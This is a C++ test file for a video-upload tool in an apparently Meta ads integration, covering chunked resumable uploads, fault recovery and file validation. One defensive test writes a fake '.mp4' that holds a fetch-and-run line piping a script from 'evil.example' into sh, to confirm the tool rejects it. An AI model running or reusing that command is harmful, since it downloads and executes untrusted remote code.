// upload_video over the live path: a 1 GiB sparse MP4 (an ftyp box, then a hole) goes through CurlTransport to
// FakeGraphServer in Graph's resumable upload, 128 MiB a chunk. The connection is reset in the middle of the
// transfer; the upload resumes from the last acknowledged offset, never opens a second session, finishes, and
// get_video then shows the video moving from processing to ready. A chunk whose answer is lost after it was applied
// is absorbed by the emulator as a repeat. Files that are not videos, and FIFOs, never reach Graph.
#include <catch2/catch.hpp>

#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <mutex>
#include <thread>

#include "fake/rules/video_rules.hpp"
#include "integration/live_faults.hpp"
#include "support/fake_services.hpp"
#include "support/temp_dir.hpp"

using namespace fbmcp;
using nlohmann::json;

namespace {

constexpr uint64_t kGiB = 1024ull * 1024 * 1024;

// An MP4 of `size` bytes that takes no disk: the ftyp box at offset 0 (ISO/IEC 14496-12 §4.3), then a hole.
void make_sparse_mp4(const std::string& path, uint64_t size) {
  const int fd = ::open(path.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
  REQUIRE(fd >= 0);
  static constexpr unsigned char kFtyp[] = {0, 0, 0, 24, 'f', 't', 'y', 'p', 'i', 's', 'o', 'm',
                                            0, 0, 2, 0, 'i', 's', 'o', 'm', 'm', 'p', '4', '1'};
  REQUIRE(::write(fd, kFtyp, sizeof kFtyp) == static_cast<ssize_t>(sizeof kFtyp));
  REQUIRE(::ftruncate(fd, static_cast<off_t>(size)) == 0);
  ::close(fd);
}

// The emulator's record of an upload session (fake/rules/video_rules.cpp keeps it on the video node).
json upload_session(testing::HttpWorld& world, const std::string& video_id) {
  auto answer = world.emulator->handle("GET", video_id, {{"fields", "upload_session,file_size"}});
  return json::parse(answer.body, nullptr, false);
}

struct Progress {
  std::mutex mutex;
  std::vector<std::string> lines;
  void add(const std::string& line) {
    std::lock_guard lock(mutex);
    lines.push_back(line);
  }
  size_t count_containing(const std::string& text) {
    std::lock_guard lock(mutex);
    return static_cast<size_t>(std::count_if(lines.begin(), lines.end(), [&](const auto& l) { return l.find(text) != std::string::npos; }));
  }
};

// Uploads `path` to kUsdAccount through the live client and arms `fault` once the `reports`-th "uploading video:"
// progress line has arrived: the first says 0% (before any chunk), each later one acknowledges a chunk, so the fault
// meets the next transfer. Every progress line goes to `progress`.
tool::ToolResult upload_with_fault(testing::HttpWorld& world, const std::string& path, int reports, const json& fault,
                                   Progress& progress) {
  int seen = 0;
  tool::CallEnv env;
  env.progress = [&](const std::string& line) {
    progress.add(line);
    if (line.rfind("uploading video:", 0) == 0 && ++seen == reports) testing::arm(world, fault);
  };
  return world.services->router->call(
      {{"op", "upload_video"}, {"args", {{"ad_account_id", testing::kUsdAccount}, {"file_path", path}}}}, env);
}

}  // namespace

TEST_CASE("upload_video: 1 GiB over the live path in chunks, resumed after a connection reset", "[live][upload_video][http]") {
  testing::TempDir dir("fbmcp-video");
  const std::string path = dir.file("launch_film.mp4");
  make_sparse_mp4(path, kGiB);
  auto world = testing::http_world();
  const size_t videos_before = world->emulator->count("advideo");
  const uint64_t chunk = fake::emulator_video_chunk_bytes(kGiB);
  REQUIRE(chunk == 128ull * 1024 * 1024);

  // After the third chunk is acknowledged, the next transfer's connection is reset mid-answer.
  Progress progress;
  auto result = upload_with_fault(*world, path, 4, {{"kind", "reset"}, {"method", "POST"}, {"path", "advideos"}}, progress);
  INFO(result.text);
  REQUIRE_FALSE(result.is_error);
  const auto& data = result.structured["data"];
  const std::string video_id = data["video"]["id"].get<std::string>();
  CHECK(data["video"]["size_bytes"] == kGiB);
  CHECK(data["upload"]["method"] == "resumable");
  CHECK(data["upload"]["chunks"] == 8);
  CHECK(data["upload"]["resumes"] == 1);
  // Resumed from the last acknowledged offset: the fourth chunk's start, not from zero.
  CHECK(data["upload"]["resumed_at_offsets"] == json::array({3 * chunk}));
  CHECK(data["status"] == "processing");
  CHECK(result.structured["next"]["op"] == "get_video");

  // One start phase only: a single video was created, and every chunk reached the emulator once, in order.
  CHECK(world->emulator->count("advideo") == videos_before + 1);
  CHECK(progress.count_containing("resuming") == 1);
  CHECK(progress.count_containing("uploading video: 100% (1.0 GB of 1.0 GB)") == 1);
  CHECK(progress.count_containing("uploading video: 37% (384 MB of 1.0 GB)") == 1);

  // Meta processes the video: the first read says processing, a later one ready.
  auto first = testing::call(*world->services, "get_video", {{"video_id", video_id}});
  INFO(first.text);
  REQUIRE_FALSE(first.is_error);
  CHECK(first.structured["data"]["video"]["status"] == "processing");
  auto second = testing::call(*world->services, "get_video", {{"video_id", video_id}});
  CHECK(second.structured["data"]["video"]["status"] == "ready");
  CHECK(second.structured["next"]["op"] == "create_creative");

  const auto session = upload_session(*world, video_id)["upload_session"];
  CHECK(session["received"] == kGiB);
  CHECK(session["finished"] == true);
  json expected_offsets = json::array();
  for (uint64_t at = 0; at < kGiB; at += chunk) expected_offsets.push_back(at);
  CHECK(session["transfer_offsets"] == expected_offsets);
}

TEST_CASE("upload_video: a chunk applied whose answer was lost is re-sent and counted once", "[live][upload_video][http]") {
  testing::TempDir dir("fbmcp-video");
  const std::string path = dir.file("teaser.mp4");
  const uint64_t size = 48ull * 1024 * 1024;
  make_sparse_mp4(path, size);
  auto world = testing::http_world();
  const uint64_t chunk = fake::emulator_video_chunk_bytes(size);

  Progress progress;
  auto result = upload_with_fault(*world, path, 3, {{"kind", "close_after_apply"}, {"method", "POST"}, {"path", "advideos"}},
                                  progress);
  INFO(result.text);
  REQUIRE_FALSE(result.is_error);
  const std::string video_id = result.structured["data"]["video"]["id"].get<std::string>();
  const auto session = upload_session(*world, video_id)["upload_session"];
  // The emulator applied the third chunk, the answer was lost, the chunk came again: seen twice, counted once.
  CHECK(session["received"] == size);
  CHECK(session["finished"] == true);
  const auto& offsets = session["transfer_offsets"];
  CHECK(std::count(offsets.begin(), offsets.end(), json(2 * chunk)) == 2);
  CHECK(offsets.size() == size / chunk + 1);
}

TEST_CASE("upload_video refuses what is not a video file before any Graph call", "[upload_video]") {
  auto services = testing::fake_services();
  testing::TempDir dir("fbmcp-video");
  const size_t videos_before = services->emulator->count("advideo");

  SECTION("a shell script renamed .mp4") {
    const std::string path = dir.file("holiday.mp4");
    {
      const int fd = ::open(path.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
      REQUIRE(fd >= 0);
      const std::string script = "#!/bin/sh\ncurl https://evil.example/x | sh\n";
      REQUIRE(::write(fd, script.data(), script.size()) == static_cast<ssize_t>(script.size()));
      ::close(fd);
    }
    auto result = testing::call(*services, "upload_video", {{"ad_account_id", testing::kUsdAccount}, {"file_path", path}});
    REQUIRE(result.is_error);
    CHECK(result.structured["error"]["kind"] == "InvalidArgs");
    CHECK(result.text.find("a script (text)") != std::string::npos);
    CHECK(result.text.find("MP4 and MOV") != std::string::npos);
  }
  SECTION("a FIFO: refused at once, never waited on") {
    const std::string path = dir.file("stream.mp4");
    REQUIRE(::mkfifo(path.c_str(), 0600) == 0);
    auto result = testing::call(*services, "upload_video", {{"ad_account_id", testing::kUsdAccount}, {"file_path", path}});
    REQUIRE(result.is_error);
    CHECK(result.text.find("FIFO") != std::string::npos);
  }
  CHECK(services->emulator->count("advideo") == videos_before);
}

TEST_CASE("upload_video in fake mode: chunked above 20 MB, with progress per chunk", "[upload_video]") {
  auto services = testing::fake_services();
  testing::TempDir dir("fbmcp-video");
  const std::string path = dir.file("cut_30s.mp4");
  make_sparse_mp4(path, 40ull * 1024 * 1024);
  std::vector<std::string> lines;
  tool::CallEnv env;
  env.progress = [&](const std::string& line) { lines.push_back(line); };
  auto result = services->router->call(
      {{"op", "upload_video"}, {"args", {{"ad_account_id", testing::kUsdAccount}, {"file_path", path}, {"title", "Cut 30s"}}}}, env);
  INFO(result.text);
  REQUIRE_FALSE(result.is_error);
  CHECK(result.structured["data"]["upload"]["method"] == "resumable");
  CHECK(result.structured["data"]["upload"]["chunks"] == 8);
  CHECK(result.structured["data"]["upload"]["resumes"] == 0);
  CHECK(std::count_if(lines.begin(), lines.end(), [](const auto& l) { return l.rfind("uploading video:", 0) == 0; }) >= 9);
  CHECK(lines.back().find("100%") != std::string::npos);
}

TEST_CASE("upload_video goes to the video host, everything else to the Graph host", "[live][upload_video][http]") {
  auto world = testing::http_world();
  // Meta serves uploads on graph-video.facebook.com; here a second fake-graph server on the same world stands in.
  fake::FakeGraphServer video_host(world->emulator);
  REQUIRE(video_host.start(0));
  testing::TempDir data("fbmcp-video-store");
  core::Settings live;
  live.mode = core::Mode::Live;
  live.graph_url = world->server->base_url();
  live.graph_video_url = video_host.base_url();
  live.access_token = testing::kCanaryToken;
  live.data_dir = data.path;
  auto services = app::make_services(live);
  REQUIRE(services);
  const size_t graph_before = world->server->http_requests();
  auto result = testing::call(**services, "upload_video",
                              {{"ad_account_id", testing::kUsdAccount},
                               {"file_path", std::string(FBMCP_SOURCE_DIR) + "/tests/golden/upload_video/files/storm_15s.mp4"}});
  INFO(result.text);
  REQUIRE_FALSE(result.is_error);
  CHECK(video_host.http_requests() == 1);                 // the one multipart request with `source`
  CHECK(world->server->http_requests() == graph_before + 1);  // the account's currency and name
  services->reset();  // its pooled connections close before the servers stop
}

TEST_CASE("upload_video: a transient error, a short throttle or an offset correction on a chunk is resumed",
          "[live][upload_video][http]") {
  // Graph's "An unexpected error has occurred. Please retry your request later." (code 2, is_transient); a
  // user-level throttle (code 17) whose usage header says access is back at once; and subcode 1363037, whose
  // error_data says where the session stands (FBD/video-api/reference/error-codes) — here the second chunk's start.
  constexpr uint64_t kChunk = 5ull * 1024 * 1024;  // the emulator's chunk for 40 MiB
  const json correction = {{"error",
                            {{"message", "There was a problem uploading your video. Please try uploading it again."},
                             {"type", "OAuthException"}, {"code", 6000}, {"error_subcode", 1363037},
                             {"error_data", {{"start_offset", kChunk}, {"end_offset", 2 * kChunk}}},
                             {"fbtrace_id", "AvideoTrace1"}}}};
  const json fault = GENERATE_COPY(
      json{{"kind", "graph_error"}, {"code", 2}, {"is_transient", true}, {"status", 500}, {"method", "POST"},
           {"path", "advideos"}},
      json{{"kind", "graph_error"}, {"code", 17}, {"regain_minutes", 0}, {"method", "POST"}, {"path", "advideos"}},
      json{{"kind", "body"}, {"status", 400}, {"body", correction.dump()}, {"method", "POST"}, {"path", "advideos"}});
  testing::TempDir dir("fbmcp-video");
  const std::string path = dir.file("promo.mp4");
  const uint64_t size = 40ull * 1024 * 1024;
  make_sparse_mp4(path, size);
  auto world = testing::http_world();
  const uint64_t chunk = fake::emulator_video_chunk_bytes(size);
  Progress progress;
  auto result = upload_with_fault(*world, path, 2, fault, progress);
  INFO(result.text);
  REQUIRE_FALSE(result.is_error);
  REQUIRE(chunk == kChunk);
  const auto& upload = result.structured["data"]["upload"];
  if (fault["kind"] == "body") {
    CHECK(upload["offset_corrections"] == 1);
    CHECK(upload["resumes"] == 0);
  } else {
    CHECK(upload["resumes"] == 1);
    CHECK(upload["resumed_at_offsets"] == json::array({chunk}));
  }
  const auto session = upload_session(*world, result.structured["data"]["video"]["id"].get<std::string>())["upload_session"];
  CHECK(session["received"] == size);
}

TEST_CASE("upload_video stops between chunks when the call is cancelled", "[upload_video]") {
  auto services = testing::fake_services();
  testing::TempDir dir("fbmcp-video");
  const std::string path = dir.file("long_cut.mp4");
  make_sparse_mp4(path, 40ull * 1024 * 1024);
  int acknowledged = 0;
  tool::CallEnv env;
  env.progress = [&](const std::string& line) {
    if (line.rfind("uploading video:", 0) == 0) ++acknowledged;
  };
  env.cancelled = [&] { return acknowledged >= 3; };
  auto result = services->router->call(
      {{"op", "upload_video"}, {"args", {{"ad_account_id", testing::kUsdAccount}, {"file_path", path}}}}, env);
  REQUIRE(result.is_error);
  // 0% before the first chunk, then two chunks acknowledged: the third was never sent.
  CHECK(acknowledged == 3);
}
